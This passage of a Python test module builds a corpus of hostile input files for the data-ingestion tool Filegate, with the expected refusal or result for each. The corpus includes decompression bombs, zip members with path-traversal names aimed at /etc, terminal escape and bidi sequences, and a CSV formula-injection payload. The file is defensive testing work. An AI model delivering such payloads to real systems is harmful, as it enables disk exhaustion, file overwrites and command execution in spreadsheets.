"""The hostile corpus: files a partner, a broken exporter or an attacker could deliver, each with what Filegate must
make of it. Generated at test time from code (seeded, deterministic), never committed as binaries.

A case names its class, its file name (the extension matters for detection), how to make the bytes, how to read
it (the CLI's `profile` with the detected or a given format, or with a feed contract written for the case) and the
expected outcome: `ok` (processed, with facts such as row counts) or `refused` (quarantined, with a reason that
matches a pattern), or `any` where either is right as long as the invariants hold (exit 0/1, no traceback,
a one-line reason, bounded time and memory).

Sizes of the big cases grow with FILEGATE_HOSTILE_SCALE (default 1: a few MiB; 256 makes the 4 MiB lines 1 GiB).
`pending` marks a case known to fail today and who is fixing it; the runner expects it to fail (strict xfail), so
the line is deleted when the fix lands.
"""

from __future__ import annotations

import codecs
import gzip
import io
import os
import random
import re
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

SEED = 20261121
MIB = 1 << 20


def scale() -> int:
    return max(1, int(os.environ.get("FILEGATE_HOSTILE_SCALE", "1")))


def big(base: int) -> int:
    """A big case's size in bytes at the current scale."""
    return base * scale()


def many(base: int) -> int:
    """A row count at the current scale: rows are written by Python, so they grow 16 times at most."""
    return base * min(scale(), 16)


@dataclass(frozen=True)
class Expect:
    outcome: str  # "ok" | "refused" | "any"
    rows: int | None = None  # rows total
    rejected: int | None = None
    reason: str | None = None  # regex searched (case-insensitive) in the reason when the file is refused
    check: Callable[[dict[str, Any]], None] | None = None  # more facts, on the profile's summary JSON


def ok(rows: int | None = None, rejected: int | None = 0, check: Callable[[dict[str, Any]], None] | None = None
       ) -> Expect:
    return Expect("ok", rows, rejected, None, check)


def refused(reason: str) -> Expect:
    return Expect("refused", reason=reason)


def either(reason: str | None = None, check: Callable[[dict[str, Any]], None] | None = None) -> Expect:
    return Expect("any", reason=reason, check=check)


Maker = Callable[[Path], None]


@dataclass(frozen=True)
class Case:
    cls: str
    name: str  # the delivered file's name
    make: bytes | Maker
    expect: Expect
    feed: dict[str, Any] | None = None  # contract keys (format, schema, …) for a feed written for this case
    fmt: str | None = None  # profile --format
    command: str = "profile"  # or "validate" (needs feed)
    limit_s: float = 60.0
    pending: str | None = None  # known to fail today: why, and whose work fixes it
    tags: tuple[str, ...] = field(default_factory=tuple)

    @property
    def id(self) -> str:
        return f"{self.cls}/{self.name}"

    def write(self, folder: Path) -> Path:
        path = folder / self.name
        if isinstance(self.make, bytes):
            path.write_bytes(self.make)
        else:
            self.make(path)
        return path

    def seed_bytes(self, limit: int = 64 << 10) -> bytes | None:
        """The case's bytes for mutation by the fuzzer, if small."""
        return self.make if isinstance(self.make, bytes) and len(self.make) <= limit else None


# ------------------------------------------------------------------------------------------------ builders

def csv_bytes(header: str, rows: list[str], newline: str = "\n", final: bool = True) -> bytes:
    text = newline.join([header, *rows]) + (newline if final else "")
    return text.encode()


def numbered(count: int, start: int = 1) -> list[str]:
    return [f"{i},name {i}" for i in range(start, start + count)]


def zip_of(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=method) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


def raw_zip(name: bytes, data: bytes, flags: int = 0) -> bytes:
    """One stored member written byte by byte: names zipfile refuses to write (empty, not UTF-8)."""
    crc = zlib.crc32(data)
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, flags, 0, 0, 0, crc, len(data), len(data), len(name), 0)
    central = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, flags, 0, 0, 0, crc, len(data), len(data),
                          len(name), 0, 0, 0, 0, 0, 0)
    start = len(local) + len(name) + len(data)
    directory = central + name
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(directory), start, 0)
    return local + name + data + directory + end


def tar_of(name: str, data: bytes) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        info.mtime = 0
        archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def gz(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


SMALL_CSV = csv_bytes("id,name", numbered(3))
# Big enough that a tar header's NUL bytes stay under the "looks binary" share of the first 64 KB.
BIG_CSV = csv_bytes("id,name", numbered(20_000))


def patch_zip(data: bytes, *, version: int | None = None, method: int | None = None, flags: int | None = None,
              name: bytes | None = None, file_size: int | None = None) -> bytes:
    """Rewrites fields of a one-member zip's local and central headers (a name of the same length only)."""
    out = bytearray(data)
    local = out.index(b"PK\x03\x04")
    central = out.index(b"PK\x01\x02")
    if version is not None:
        struct.pack_into("<H", out, local + 4, version)
        struct.pack_into("<H", out, central + 6, version)
    if flags is not None:
        struct.pack_into("<H", out, local + 6, flags)
        struct.pack_into("<H", out, central + 8, flags)
    if method is not None:
        struct.pack_into("<H", out, local + 8, method)
        struct.pack_into("<H", out, central + 10, method)
    if file_size is not None:
        struct.pack_into("<I", out, local + 22, file_size)
        struct.pack_into("<I", out, central + 24, file_size)
    if name is not None:
        length = struct.unpack_from("<H", out, local + 26)[0]
        assert len(name) == length, "patch_zip renames to a name of the same length only"
        out[local + 30:local + 30 + length] = name
        out[central + 46:central + 46 + length] = name
    return bytes(out)


def gzip_bomb(inflated: int) -> Maker:
    def make(path: Path) -> None:
        chunk = b"\0" * MIB
        compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
        with path.open("wb") as fh:
            for _ in range(inflated // MIB):
                fh.write(compressor.compress(chunk))
            fh.write(compressor.flush())
    return make


def zip_bomb(inflated: int, name: str = "data.csv") -> Maker:
    def make(path: Path) -> None:
        info = zipfile.ZipInfo(name)
        info.compress_type = zipfile.ZIP_DEFLATED
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive, \
                archive.open(info, "w", force_zip64=True) as member:
            member.write(b"id,name\n")
            chunk = b"1,a\n" * (MIB // 4)
            for _ in range(inflated // MIB):
                member.write(chunk)
    return make


def lying_zip(inflated: int) -> bytes:
    """A member whose headers declare 100 bytes while it inflates to `inflated`."""
    data = zip_of([("data.csv", b"id,name\n" + b"1,a\n" * (inflated // 4))])
    return patch_zip(data, file_size=100)


def streamed(path: Path, parts: Iterator[bytes]) -> None:
    with path.open("wb") as fh:
        for part in parts:
            fh.write(part)


def lines_file(header: bytes, count: int, line: Callable[[int], bytes], tail: bytes = b"") -> Maker:
    def make(path: Path) -> None:
        def parts() -> Iterator[bytes]:
            yield header
            step = 10_000
            for start in range(0, count, step):
                yield b"".join(line(i) for i in range(start, min(count, start + step)))
            yield tail
        streamed(path, parts())
    return make


def fill(unit: bytes, size: int) -> list[bytes]:
    """About `size` bytes of `unit` repeated, as 1 MiB pieces (one object, listed many times)."""
    piece = unit * max(1, MIB // len(unit))
    return [piece] * max(1, size // len(piece))


def noise(size: int, seed: int = SEED) -> bytes:
    return random.Random(seed).randbytes(size)


# ---- xlsx, written part by part so that its XML (dimension, shared strings) says exactly what the case needs

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '{sheets}{shared}</Types>'
)
SHEET_TYPE = ('<Override PartName="/xl/worksheets/sheet{n}.xml" '
              'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>')
SHARED_TYPE = ('<Override PartName="/xl/sharedStrings.xml" '
               'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>')
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
REL_NS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'


def col_name(index: int) -> str:
    name = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        name = chr(65 + rest) + name
    return name


def xml_escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def sheet_row(number: int, values: list[Any]) -> str:
    cells = []
    for i, value in enumerate(values):
        ref = f"{col_name(i)}{number}"
        if value is None:
            continue
        if isinstance(value, tuple) and value[0] == "f":
            cells.append(f'<c r="{ref}"><f>{xml_escape(value[1])}</f></c>')
        elif isinstance(value, tuple) and value[0] == "s":
            cells.append(f'<c r="{ref}" t="s"><v>{value[1]}</v></c>')
        elif isinstance(value, int | float):
            cells.append(f'<c r="{ref}"><v>{value}</v></c>')
        else:
            cells.append(f'<c r="{ref}" t="inlineStr"><is><t>{xml_escape(str(value))}</t></is></c>')
    return f'<row r="{number}">' + "".join(cells) + "</row>"


def xlsx(path: Path, sheets: list[tuple[str, str | None, Iterator[str]]], shared: Iterator[str] | None = None,
         shared_count: int = 0) -> None:
    """sheets: (name, dimension ref or None, <row> XML pieces); shared: <si> XML pieces of sharedStrings.xml."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES.format(
            sheets="".join(SHEET_TYPE.format(n=n) for n in range(1, len(sheets) + 1)),
            shared=SHARED_TYPE if shared is not None else ""))
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("xl/workbook.xml", f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                         f'<workbook {NS} {REL_NS}><sheets>' + "".join(
                             f'<sheet name="{xml_escape(name)}" sheetId="{n}" r:id="rId{n}"/>'
                             for n, (name, _, _) in enumerate(sheets, 1)) + "</sheets></workbook>")
        rels = "".join(
            f'<Relationship Id="rId{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            f'worksheet" Target="worksheets/sheet{n}.xml"/>' for n in range(1, len(sheets) + 1))
        if shared is not None:
            rels += ('<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                     'relationships/sharedStrings" Target="sharedStrings.xml"/>')
        archive.writestr("xl/_rels/workbook.xml.rels", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                         + rels + "</Relationships>")
        for n, (_, dimension, rows) in enumerate(sheets, 1):
            with archive.open(f"xl/worksheets/sheet{n}.xml", "w", force_zip64=True) as fh:
                fh.write(f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet {NS}>'.encode())
                if dimension:
                    fh.write(f'<dimension ref="{dimension}"/>'.encode())
                fh.write(b"<sheetData>")
                for row in rows:
                    fh.write(row.encode())
                fh.write(b"</sheetData></worksheet>")
        if shared is not None:
            with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as fh:
                fh.write(f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><sst {NS} count="{shared_count}" '
                         f'uniqueCount="{shared_count}">'.encode())
                for item in shared:
                    fh.write(item.encode())
                fh.write(b"</sst>")


def table_rows(header: list[str], rows: Iterator[list[Any]]) -> Iterator[str]:
    yield sheet_row(1, header)
    for number, values in enumerate(rows, 2):
        yield sheet_row(number, values)


def workbook(header: list[str], rows: list[list[Any]], dimension: str | None = None) -> Maker:
    return lambda path: xlsx(path, [("Sheet1", dimension, table_rows(header, iter(rows)))])


def openpyxl_book(build: Callable[[Any], None]) -> Maker:
    def make(path: Path) -> None:
        from openpyxl import Workbook

        book = Workbook()
        build(book)
        book.save(path)
    return make


def _dates(book: Any) -> None:
    import datetime as dt

    sheet = book.active
    sheet.append(["id", "day", "at"])
    for i in range(1, 11):
        sheet.append([i, dt.date(2026, 1, i), dt.datetime(2026, 1, i, 12, 30)])


def _many_sheets(book: Any) -> None:
    book.active.append(["id", "v"])
    book.active.append([1, "first sheet"])
    for n in range(300):
        book.create_sheet(f"S{n}").append(["x"])


# ---- facts on the profile summary

def columns(*names: str) -> Callable[[dict[str, Any]], None]:
    def check(summary: dict[str, Any]) -> None:
        assert list(summary["columns"]) == list(names), list(summary["columns"])[:10]
    return check


def inferred(**types: str) -> Callable[[dict[str, Any]], None]:
    def check(summary: dict[str, Any]) -> None:
        got = {k: summary["inferred_schema"][k]["type"] for k in types}
        assert got == types, got
    return check


def nulls(**counts: int) -> Callable[[dict[str, Any]], None]:
    def check(summary: dict[str, Any]) -> None:
        got = {k: summary["columns"][k]["nulls"] for k in counts}
        assert got == counts, got
    return check


def all_of(*checks: Callable[[dict[str, Any]], None]) -> Callable[[dict[str, Any]], None]:
    def check(summary: dict[str, Any]) -> None:
        for one in checks:
            one(summary)
    return check


def top_value(column: str, value: str) -> Callable[[dict[str, Any]], None]:
    def check(summary: dict[str, Any]) -> None:
        values = [v["value"] for v in summary["columns"][column].get("top_values", [])]
        assert value in values, values[:10]
    return check


def rejected_at_least(count: int) -> Callable[[dict[str, Any]], None]:
    def check(summary: dict[str, Any]) -> None:
        if summary["status"] == "processed":
            assert summary["rows"]["rejected"] >= count, summary["rows"]
    return check


# ------------------------------------------------------------------------------------------------ the cases

MARKERS = ["NA", "N/A", "NULL", "null", "None", "NaN", "-NaN", "nan", "#N/A", ""]
TRAINS_LAYOUT = {"type": "fixed_width", "fields": [{"name": "id", "start": 1, "width": 6},
                                                  {"name": "code", "start": 7, "width": 4}]}
CSV_FEED = {"format": {"type": "csv"}, "thresholds": {"max_rejected_share": 1.0}}
BOMB = "decompression bomb"
NESTED = "nested archives"


def _values_case() -> list[Case]:
    cases = [
        Case("values", "markers.csv", csv_bytes("id,amount,price", [
            f"{i},{m},{'1.5' if i % 2 else m}" for i, m in enumerate(MARKERS * 3, 1)] + ["99,7,2.25"]),
            ok(31, check=all_of(inferred(amount="int", price="float"), nulls(amount=30, price=15)))),
        Case("values", "dash_marker.csv", csv_bytes("id,amount", ["1,-", "2,5", "3,-"]),
             ok(3, check=inferred(amount="string"))),
        Case("values", "dash_declared.csv", csv_bytes("id,amount", ["1,-", "2,5", "3,-"]),
             ok(3, check=all_of(inferred(amount="int"), nulls(amount=2))),
             feed={"format": {"type": "csv"}, "null_values": {"extend": ["-"]}}),
        Case("values", "leading_zeros.csv", csv_bytes("zip,n", ["00501,1", "02134,2", "90210,3"]),
             ok(3, check=all_of(inferred(zip="string", n="int"), top_value("zip", "00501")))),
        Case("values", "hex.csv", csv_bytes("h,n", ["0x1F,1", "0x20,2"]), ok(2, check=inferred(h="string"))),
        Case("values", "int64_edges.csv", csv_bytes("a,b,c", [
            "9223372036854775807,-9223372036854775808,9223372036854775808",
            "1,2,99999999999999999999999999999999"]),
            ok(2, check=inferred(a="int", b="int", c="string"))),
        Case("values", "int64_typed.csv", csv_bytes("id,n", ["1,9223372036854775807", "2,9223372036854775808",
                                                             "3,-99999999999999999999", "4,1e999", "5,0x1F"]),
             ok(5, rejected=4), feed={**CSV_FEED, "schema": {"columns": [
                 {"name": "id", "type": "int"}, {"name": "n", "type": "int"}]}}),
        Case("values", "float_edges.csv", csv_bytes("f", ["1e308", "1e999", "-inf", "nan", "1e-400", "1_000"]),
             ok(6)),
        Case("values", "markers_typed.csv", csv_bytes("id,amount", [f"{i},{m}" for i, m in enumerate(MARKERS, 1)]),
             ok(10, rejected=0), feed={**CSV_FEED, "schema": {"columns": [
                 {"name": "id", "type": "int", "nullable": False}, {"name": "amount", "type": "float"}]}}),
    ]
    return cases


def _archive_cases() -> list[Case]:
    member = zip_of([("data.csv", SMALL_CSV)])
    return [
        Case("archive", "bomb.csv.gz", gzip_bomb(big(64 * MIB)), refused(BOMB)),
        Case("archive", "bomb_small_limit.csv.gz", gzip_bomb(big(32 * MIB)), refused(BOMB),
             feed={"format": {"type": "csv", "max_uncompressed_bytes": 4 * MIB}}),
        Case("archive", "bomb.zip", zip_bomb(big(64 * MIB)), refused(BOMB)),
        Case("archive", "lying_size.zip", lying_zip(8 * MIB), refused(r"zip archive")),
        Case("archive", "zip_in_zip.zip", zip_of([("inner.zip", member)]), refused(NESTED)),
        Case("archive", "gzip_in_gzip.csv.gz", gz(gz(SMALL_CSV)), refused(NESTED)),
        Case("archive", "zip_in_gzip.csv.gz", gz(member), refused(NESTED)),
        Case("archive", "gzip_in_zip.zip", zip_of([("data.csv.gz", gz(SMALL_CSV))]), refused(NESTED)),
        Case("archive", "traversal.zip", zip_of([("../../../../etc/cron.d/data.csv", SMALL_CSV)]), ok(3)),
        Case("archive", "absolute.zip", zip_of([("/etc/passwd.csv", SMALL_CSV)]), ok(3)),
        Case("archive", "backslash.zip", zip_of([("..\\..\\win\\data.csv", SMALL_CSV)]), ok(3)),
        Case("archive", "version_99.zip", patch_zip(member, version=99), either(r"zip")),
        Case("archive", "method_99.zip", patch_zip(member, method=99), refused(r"zip archive")),
        Case("archive", "encrypted.zip", patch_zip(member, flags=0x1), refused("encrypted")),
        Case("archive", "name_not_utf8.zip", patch_zip(zip_of([("d\u00e9ta.csv", SMALL_CSV)]),
                                                       name=b"d\xff\xfeta.csv"), refused("UTF-8")),
        Case("archive", "name_cp437.zip", patch_zip(zip_of([("dxxta.csv", SMALL_CSV)]), name=b"d\x82\x8ata.csv"),
             ok(3)),
        Case("archive", "name_control.zip", zip_of([("a\x1b[31m\u202e.csv", SMALL_CSV), ("b\r\n.csv", b"x")]),
             refused("exactly one")),
        Case("archive", "empty_name.zip", raw_zip(b"", SMALL_CSV), refused("empty name")),
        Case("archive", "name_not_utf8_flagged.zip", raw_zip(b"\xc3(\xff.csv", SMALL_CSV, flags=0x800),
             refused("UTF-8")),
        Case("archive", "two_files.zip", zip_of([("a.csv", SMALL_CSV), ("b.csv", SMALL_CSV)]),
             refused("exactly one")),
        Case("archive", "macosx.zip", zip_of([("__MACOSX/._a.csv", b"\0\5junk"), ("a.csv", SMALL_CSV)]), ok(3)),
        Case("archive", "empty_member.zip", zip_of([("a.csv", b"")]), refused("empty")),
        Case("archive", "no_member.zip", zip_of([]), refused(r"no file|zip")),
        Case("archive", "truncated.csv.gz", gz(BIG_CSV)[:2000], refused("corrupt or truncated")),
        Case("archive", "truncated.zip", zip_of([("a.csv", BIG_CSV)])[:3000], refused("zip")),
        Case("archive", "plain.tar", tar_of("data.csv", BIG_CSV), refused("tar")),
        Case("archive", "data.tar.gz", gz(tar_of("data.csv", BIG_CSV)), refused("tar")),
        Case("archive", "tar_renamed.csv", tar_of("data.csv", BIG_CSV), refused("tar")),
        Case("archive", "tar_in_zip.zip", zip_of([("data.tar", tar_of("data.csv", BIG_CSV))]), refused("tar")),
        Case("archive", "bzip2.csv", b"BZh91AY&SY" + noise(200), refused("bzip2")),
        Case("archive", "gzip_declared_not_gzip.csv", SMALL_CSV, refused("gzip"),
             feed={"format": {"type": "csv", "compression": "gzip"}}),
    ]


def _binary_cases() -> list[Case]:
    png = b"\x89PNG\r\n\x1a\n" + noise(4000)
    elf = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + noise(4000)
    pe = b"MZ\x90\x00" + noise(4000)
    return [
        Case("binary", "noise.csv", noise(256 << 10), refused("binary|not a text")),
        Case("binary", "noise.json", noise(64 << 10, SEED + 1), refused("binary|not a text|not valid")),
        Case("binary", "noise.ndjson", noise(64 << 10, SEED + 2), refused("binary|not a text|not valid|no JSON")),
        Case("binary", "image.csv", png, refused("PNG")),
        Case("binary", "photo.csv", b"\xff\xd8\xff\xe0" + noise(4000), refused("JPEG")),
        Case("binary", "program.csv", elf, refused("executable")),
        Case("binary", "program.exe.csv", pe, refused("executable")),
        Case("binary", "doc.csv", b"%PDF-1.7\n" + noise(4000), refused("PDF")),
        Case("binary", "parquet.csv", b"PAR1" + noise(4000), refused("Parquet")),
        Case("binary", "empty.csv", b"", refused("empty")),
        Case("binary", "bom_only.csv", codecs.BOM_UTF8, refused(r"no lines|blank|no data|empty|header")),
        Case("binary", "bom16_only.csv", codecs.BOM_UTF16_LE, refused(r"no lines|blank|no data|empty|header")),
        Case("binary", "newlines_only.csv", b"\n" * 100_000, refused(r"blank|no lines|header")),
        Case("binary", "nul_heavy.csv", b"id,name\n" + b"1,\0\0\0\0\0\0\0\0\n" * 1000, refused("binary")),
    ]


PADDING2 = b"".join(b"%d,abc\n" % i for i in range(200))
PADDING3 = b"".join(b"%d,abc,x\n" % i for i in range(200))
PADDING4 = b"".join(b"%d,abc,x,y\n" % i for i in range(200))


def _header_cases() -> list[Case]:
    wide = ",".join(f"c{i}" for i in range(5000))
    return [
        Case("header", "only_header.csv", b"id,name\n", refused("no data rows")),
        Case("header", "only_header_no_newline.csv", b"id,name", refused("no data rows")),
        Case("header", "bom_header.csv", codecs.BOM_UTF8 + b"id,name\n", refused("no data rows")),
        Case("header", "cols_5000.csv", (wide + "\n" + ",".join("1" * 5000) + "\n").encode(),
             refused("columns, more than the limit")),
        Case("header", "cols_5000_allowed.csv", (wide + "\n" + ",".join("1" * 5000) + "\n").encode() * 1,
             ok(1), feed={"format": {"type": "csv", "max_columns": 10_000}}),
        Case("header", "duplicate.csv", b"id,name,id\n1,a,2\n", refused("duplicate column names")),
        Case("header", "duplicate_esc.csv", b"\x1b[2J\xe2\x80\xae,\x1b[2J\xe2\x80\xae,b\n" + PADDING3,
             refused("duplicate column names")),
        Case("header", "empty_name.csv", b"id,,name\n1,2,3\n", refused("empty column name")),
        Case("header", "blank_first.csv", b"\n\nid,name\n1,a\n", refused("blank")),
        Case("header", "row_reasons.csv", b"_row,_reasons,x\n1,2,3\n4,5\n6,7,8\n", ok(3, rejected=1),
             feed=CSV_FEED, command="validate"),
        Case("header", "row_reasons_profile.csv", b"_row,_reasons,x\n1,2,3\n4,5\n6,7,8,9\n", ok(3, rejected=2)),
        Case("header", "header_10k.csv", ("h" * 10_000 + ",b\n1,2\n").encode(), ok(1)),
        Case("header", "header_10k_dup.csv", ("h" * 10_000 + ",b," + "h" * 10_000 + "\n1,2,3\n").encode(),
             refused("duplicate")),
        Case("header", "controls_names.csv",
             "id,\x1b]8;;http://x\x07link\x1b]8;;\x07,na\u202eme,\u2066z\u2069\n1,a,b,c\n2,\x1b[31mred,\x07,\x7f\n"
             .encode() + PADDING4, ok(202)),
        # A tiny file with a few escape sequences is refused as binary (over 5 % control bytes): either is fine.
        Case("header", "controls_tiny.csv", b"id,v\n1,\x1b[31mred\x1b[0m\n", either("binary")),
        Case("header", "controls_typed.csv",
             "id,v\n1,\x1b[31m\u202eevil\n2,ok\n3,\r\x1b[1A\x1b[2Kfake line\n".encode() + PADDING2, ok(204, rejected=2),
             feed={**CSV_FEED, "schema": {"columns": [{"name": "id", "type": "int"},
                                                      {"name": "v", "type": "string", "regex": "^[a-z]+$"}]}},
             command="validate"),
        Case("header", "controls_header_typed.csv", "\x1b[31mid\u202e,v\n".encode() + PADDING2,
             refused(r"column|missing|id"),
             feed={**CSV_FEED, "schema": {"allow_extra_columns": False, "columns": [{"name": "id", "type": "int"}]}}),
    ]


def _csv_cases() -> list[Case]:
    rows = 50_000
    return [
        Case("csv", "unterminated_row2.csv", lines_file(b'id,name\n1,"open\n', rows, lambda i: b"%d,name\n" % i),
             refused(r"line 2 .*never closed|unterminated")),
        Case("csv", "unterminated_last.csv",
             lines_file(b"id,name\n", rows, lambda i: b"%d,name\n" % i, tail=b'50001,"open\n'),
             refused(r"line 50002 .*never closed|unterminated")),
        Case("csv", "unterminated_last_no_newline.csv", b'id,name\n1,a\n2,"open', refused("line 3 .*never closed")),
        Case("csv", "quoted_newline_last_no_newline.csv", b'id,name\n1,a\n2,"multi\nline"', ok(2)),
        Case("csv", "ragged.csv", b"id,name\n1,a\n2\n3,c,extra\n4,d\n", ok(4, rejected=2)),
        Case("csv", "ragged_cut_utf8.csv", "id,name\n1,a\n2,b,\u00e9".encode()[:-1], either(r"UTF-8|cut|encod")),
        Case("csv", "cut_utf8.csv", "id,name\n1,a\n2,\u00e9".encode()[:-1], either(r"UTF-8|cut|encod")),
        Case("csv", "mixed_newlines.csv", b"id,name\r\n1,a\n2,b\r3,c\r\n", ok(3)),
        Case("csv", "cr_only.csv", b"id,name\r1,a\r2,b\r", ok(2)),
        Case("csv", "nul_values.csv", b"id,name\n1,a\0b\n2,c\n" + b"3,dd\n" * 300, ok(302, rejected=None)),
        Case("csv", "invalid_utf8_late.csv",
             lines_file(b"id,name\n", 20_000, lambda i: b"%d,caf\xc3\xa9\n" % i, tail=b"9,caf\xe9\n10,b\n11,c\n"),
             refused("mixes encodings")),
        Case("csv", "invalid_utf8_last_line.csv",
             lines_file(b"id,name\n", 20_000, lambda i: b"%d,caf\xc3\xa9\n" % i, tail=b"9,caf\xe9\n"),
             refused("mixes encodings")),
        Case("csv", "latin1.csv", b"id,name\n1,caf\xe9\n2,na\xefve\n", ok(2, check=top_value("name", "caf\u00e9"))),
        Case("csv", "utf16le_bom.csv", codecs.BOM_UTF16_LE + "id,name\n1,\u00e9\n2,\u4e2d\n".encode("utf-16-le"),
             ok(2)),
        Case("csv", "utf16be_bom.csv", codecs.BOM_UTF16_BE + "id,name\n1,\u00e9\n".encode("utf-16-be"), ok(1)),
        Case("csv", "utf16le_nobom.csv", "id,name\n1,a\n2,b\n".encode("utf-16-le"), ok(2)),
        Case("csv", "utf32_bom.csv", "id,name\n1,a\n".encode("utf-32"), ok(1)),
        Case("csv", "utf16_lone_surrogate.csv",
             codecs.BOM_UTF16_LE + "id,name\n1,".encode("utf-16-le") + b"\x00\xd8" + "x\n".encode("utf-16-le"),
             refused(r"not valid|surrogate|utf-16")),
        Case("csv", "utf8_surrogate_bytes.csv",
             lines_file(b"id,name\n", 20_000, lambda i: b"%d,n\n" % i, tail=b"1,\xed\xa0\x80\n"),
             refused(r"encod|UTF-8")),
        Case("csv", "declared_utf16_for_utf8.csv", csv_bytes("id,name", numbered(1000)),
             refused(r"utf-16|byte-order|encoding"), feed={"format": {"type": "csv", "encoding": "utf-16"}}),
        Case("csv", "declared_utf16le_for_utf8.csv", csv_bytes("id,name", numbered(1000)),
             refused(r"utf-16|encoding|header|column"), feed={"format": {"type": "csv", "encoding": "utf-16-le"}}),
        Case("csv", "no_final_newline.csv", b"id,name\n1,a", ok(1)),
        Case("csv", "one_line.csv", b"just some words without a delimiter", refused("no data rows")),
        Case("csv", "lines_1m.csv", lines_file(b"id,v\n", 1_000_000, lambda i: b"%d,x\n" % i), ok(1_000_000),
             limit_s=120),
        # Peak memory grows with the row count (about 60 MB per million rows of "1,a" here): 16.7 million such
        # rows (a 64 MiB file) took 1 GB and 38 s.
        Case("csv", "rows_identical.csv", lines_file(b"id,v\n", many(1_000_000), lambda i: b"1,a\n"),
             ok(many(1_000_000)), limit_s=120),
        Case("csv", "huge_line_many_columns.csv",
             lambda p: streamed(p, iter([b"a", *fill(b",a", big(4 * MIB)), b"\n1\n"])),
             refused("columns"), limit_s=120),
        Case("csv", "huge_data_line.csv",
             lambda p: streamed(p, iter([b"id,v\n1,x\n2,", *fill(b"y", big(4 * MIB)), b"\n3,z\n"])),
             either(r"block|limit|larger|longer|record|line"), limit_s=120),
        Case("csv", "huge_quoted_field.csv",
             lambda p: streamed(p, iter([b'id,v\n1,"', *fill(b"ab\n", big(4 * MIB)), b'"\n2,z\n'])),
             either(r"block|limit|larger|longer|record|line"), limit_s=120),
        Case("csv", "formulas.csv", b"id,v\n1,=cmd|' /C calc'!A0\n2,+1+1\n3,@SUM(A1)\n4,-2+3\n", ok(4, rejected=4),
             feed={**CSV_FEED, "schema": {"columns": [{"name": "v", "type": "int"}]}}, command="validate"),
        Case("csv", "semicolons.csv", b"id;name;v\n1;a;1,5\n2;b;2,5\n", ok(2, check=columns("id", "name", "v"))),
        Case("csv", "pipes_quotes.csv", b'id|name\n1|"a|b"\n2|"c""d"\n', ok(2)),
        Case("csv", "quote_in_unquoted.csv", b'id,name\n1,a"b\n2,"c"d\n', ok(2)),
        Case("csv", "blank_lines.csv", b"id,name\n\n1,a\n\n\n2,b\n\n", ok(2)),
    ]


def _json_cases() -> list[Case]:
    def deep(levels: int) -> bytes:
        return b'{"id": 1, "v": ' + b"[" * levels + b"]" * levels + b"}"

    record_limit = 64 * MIB
    return [
        Case("json", "nested_1000.json", b'[{"id": 0, "v": 1},' + deep(1000) + b"]",
             either("nested too deeply", check=rejected_at_least(1))),
        Case("json", "nested_100k.json", b'[{"id": 0, "v": 1},' + deep(100_000) + b"]",
             either("nested too deeply", check=rejected_at_least(1))),
        Case("json", "nested_100k.ndjson", b'{"id": 0, "v": 1}\n' + deep(100_000) + b'\n{"id": 2, "v": 3}\n',
             ok(3, rejected=1)),
        Case("json", "nested_objects.ndjson", b'{"id": 0}\n' + b'{"a":' * 50_000 + b"1" + b"}" * 50_000 + b"\n",
             ok(2, rejected=1)),
        Case("json", "surrogate_value.json", b'[{"id": 1, "v": "a\\ud800b"}, {"id": 2, "v": "ok"}]',
             ok(2, rejected=1)),
        Case("json", "surrogate_key.json", b'[{"id": 1, "\\udfffk": 1}, {"id": 2}]', either("surrogate")),
        Case("json", "surrogate_value.ndjson", b'{"id": 1, "v": "\\ud800"}\n{"id": 2, "v": "ok"}\n',
             ok(2, rejected=1)),
        Case("json", "surrogate_key.ndjson", b'{"id": 1, "\\ud800": 1}\n{"id": 2}\n', either("surrogate")),
